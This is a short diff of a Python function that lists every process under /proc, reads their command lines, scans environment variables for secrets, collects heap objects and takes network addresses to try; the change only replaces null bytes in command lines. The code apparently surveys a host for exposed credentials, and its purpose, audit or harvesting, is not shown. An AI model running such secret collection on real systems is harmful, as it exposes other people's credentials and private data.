@@ -22,7 +22,7 @@ FILES = 10_000
 def everything(addresses: list[str]) -> dict[str, list[str]]:
     """What was found, by where. ``addresses`` are HOST:PORT to try."""
     processes = [int(path.name) for path in Path("/proc").glob("[0-9]*")]
-    commands = [read(f"/proc/{pid}/cmdline").decode(errors="replace") for pid in processes]
+    commands = [read(f"/proc/{pid}/cmdline").replace(b"\0", b" ").decode(errors="replace") for pid in processes]
     return {
         "environment": secrets("\n".join(f"{name}={value}" for name, value in os.environ.items()).encode()),
         "objects": heap(),
